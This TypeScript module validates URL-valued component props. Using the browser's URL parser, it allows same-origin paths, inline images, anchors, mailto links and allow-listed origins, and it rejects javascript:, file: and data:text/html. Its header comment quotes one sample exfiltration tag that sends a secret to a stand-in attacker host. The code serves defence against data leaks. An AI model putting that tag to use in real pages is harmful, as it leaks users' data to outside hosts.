/**
 * Addresses in props (issue 12, "Network means network"). A prop whose schema says `"x-url"`
 * (`"image"` for what the page loads by itself, `"link"` for where a click goes) holds an address,
 * and an address is a way out of the app: `<img src="https://evil.example/?d=SECRET">` sends the
 * app's data on every render without any click. So an address may point only to
 *
 * - this app's own server: a path (`/x`, `./x`, `x.png`) that resolves to the page's own origin,
 * - an inline picture (`data:image/...`, images only), an anchor (`#top`) or `mailto:` (links),
 * - or an origin in the component's network capability, the owner's allow-list for its requests.
 *
 * `//host/x`, `/\host`, `\\host` and `http:host` are not paths: the browser resolves them to
 * another origin. So nothing here looks at prefixes; each address is resolved as a browser would
 * (the WHATWG URL parser), against two different made-up origins: an address that stays on the
 * base's origin under both is a path, anything else names an origin of its own.
 *
 * Pure: the planner (the scheme rule), the compile gate (the origin rule over literals, as
 * `E_NETWORK_ORIGIN`) and the element components (the same rule over what an expression produced,
 * at render) all judge with these functions.
 */
import { elementSchema } from './elements';

/** What an address prop is for: `image` is fetched by the page itself, `link` only on a click. */
export type UrlKind = 'image' | 'link';

/** How an address was judged. `href` is what may be put in the page. */
export type UrlVerdict =
  /** Nothing to load (an empty address). */
  | { readonly ok: true; readonly href: ''; readonly origin: null }
  /** A path on this server, an inline picture, an anchor or a mailto: (no other origin). */
  | { readonly ok: true; readonly href: string; readonly origin: null }
  /** A remote http(s) address on an origin the component was granted. */
  | { readonly ok: true; readonly href: string; readonly origin: string }
  /** A scheme this kind of address never takes (`javascript:`, `file:`, `data:text/html`). */
  | { readonly ok: false; readonly code: 'E_PROP_TYPE'; readonly reason: string }
  /** A remote origin the component was not granted. */
  | { readonly ok: false; readonly code: 'E_NETWORK_ORIGIN'; readonly origin: string };

// Two bases on different origins and schemes: a relative address resolves onto each base's own
// origin, an absolute one (`http:host` included, which is relative only to an http: base) does not.
const BASE_A = 'http://a.app.invalid/base/';
const BASE_B = 'https://b.app.invalid/base/';
const ORIGIN_A = new URL(BASE_A).origin;
const ORIGIN_B = new URL(BASE_B).origin;

/** The kind of address prop `type.prop` is, from its schema's `x-url`; undefined for other props. */
export function urlKind(type: string, prop: string): UrlKind | undefined {
  const schema = elementSchema(type)?.properties;
  if (!schema || !Object.hasOwn(schema, prop)) return undefined;
  const kind = schema[prop]['x-url'];
  return kind === 'image' || kind === 'link' ? kind : undefined;
}

/** The address props of an element type, by name (empty for types without any). */
export function urlProps(type: string): ReadonlyMap<string, UrlKind> {
  let props = byType.get(type);
  if (!props) {
    props = new Map();
    for (const name of Object.keys(elementSchema(type)?.properties ?? {})) {
      const kind = urlKind(type, name);
      if (kind) props.set(name, kind);
    }
    byType.set(type, props);
  }
  return props;
}
const byType = new Map<string, Map<string, UrlKind>>();

function parse(raw: string, base: string | undefined): URL | null {
  try {
    return new URL(raw, base);
  } catch {
    return null;
  }
}

/**
 * An http(s) origin in its one canonical form (`https://API.example.com:443` →
 * `https://api.example.com`), or null for anything that is not a bare http(s) origin.
 */
export function canonicalOrigin(origin: string): string | null {
  const parsed = parse(origin.trim(), undefined);
  if (!parsed || (parsed.protocol !== 'http:' && parsed.protocol !== 'https:')) return null;
  // Only a bare origin is a grant: `https://x/path` or `https://user@x` is not one.
  if (parsed.pathname !== '/' || parsed.search || parsed.hash || parsed.username || parsed.password)
    return null;
  return parsed.origin;
}

/** The set of canonical origins in a network capability's list (malformed entries dropped). */
export function originSet(origins: readonly unknown[] | undefined): ReadonlySet<string> {
  const set = new Set<string>();
  for (const o of origins ?? []) {
    const canonical = typeof o === 'string' ? canonicalOrigin(o) : null;
    if (canonical) set.add(canonical);
  }
  return set;
}

/**
 * Judges one address of kind `kind` against the origins its component was granted (`null`: judge
 * the scheme only, as the planner does before the gate knows the final capabilities).
 */
export function judgeUrl(
  kind: UrlKind,
  raw: string,
  granted: ReadonlySet<string> | null
): UrlVerdict {
  // The browser strips leading and trailing spaces and control characters of src and href.
  // eslint-disable-next-line no-control-regex
  const address = raw.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');
  if (address === '') return { ok: true, href: '', origin: null };
  const a = parse(address, BASE_A);
  const b = parse(address, BASE_B);
  if (!a || !b) return { ok: false, code: 'E_PROP_TYPE', reason: 'is not an address' };
  // A path (or an anchor): it stays on whichever origin the page has.
  if (a.origin === ORIGIN_A && b.origin === ORIGIN_B)
    return { ok: true, href: address, origin: null };
  // The reading that left its base: `http:host` is a path under an http: base only.
  const far = a.origin !== ORIGIN_A ? a : b;
  const protocol = far.protocol;
  if (protocol === 'data:') {
    // An inline picture sends nothing anywhere; an inline page (data:text/html) is script.
    return kind === 'image' && /^data:image\/[a-z0-9.+-]+[;,]/i.test(far.href)
      ? { ok: true, href: address, origin: null }
      : { ok: false, code: 'E_PROP_TYPE', reason: `cannot be a ${protocol} address` };
  }
  if (protocol === 'mailto:' && kind === 'link') return { ok: true, href: far.href, origin: null };
  if (protocol !== 'http:' && protocol !== 'https:') {
    // javascript: runs script in the studio's origin; file:, blob: and the rest reach what the
    // app was never given.
    return { ok: false, code: 'E_PROP_TYPE', reason: `cannot be a ${protocol} address` };
  }
  if (granted === null || granted.has(far.origin))
    return { ok: true, href: far.href, origin: far.origin };
  return { ok: false, code: 'E_NETWORK_ORIGIN', origin: far.origin };
}
